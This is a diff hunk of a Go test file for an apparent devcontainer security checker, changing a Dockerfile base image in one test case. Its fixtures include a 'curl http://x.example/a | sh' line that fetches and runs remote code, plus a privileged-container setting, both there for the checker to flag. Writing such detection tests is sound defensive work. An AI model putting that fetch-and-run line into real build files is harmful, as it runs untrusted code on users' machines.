@@ -36,7 +36,7 @@ func TestAttackATemplateHidesWhatItOpens(t *testing.T) {
 			".devcontainer/compose.yml:5:24 SBX401"},
 		"in a Dockerfile": {`"options": {"v": {"type": "string", "default": "13"}}`,
 			devcontainer.Memory{".devcontainer/devcontainer.json": `{"build": {"dockerfile": "Dockerfile"}, "remoteUser": "1000"}`,
-				".devcontainer/Dockerfile": "FROM debian:${templateOption:v}\nRUN curl http://x.example/a | sh\n"},
+				".devcontainer/Dockerfile": "FROM example.com/base:${templateOption:v}\nRUN curl http://x.example/a | sh\n"},
 			".devcontainer/Dockerfile:2:5 SBX705"},
 		"excused": {"", devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + ",\n// sbx-ignore SBX402: needs it\n\"privileged\": true}"}, ""},
 		"excused for nothing": {"", devcontainer.Memory{".devcontainer/devcontainer.json": "{" + image + "\n// sbx-ignore SBX402: needs it\n}"},
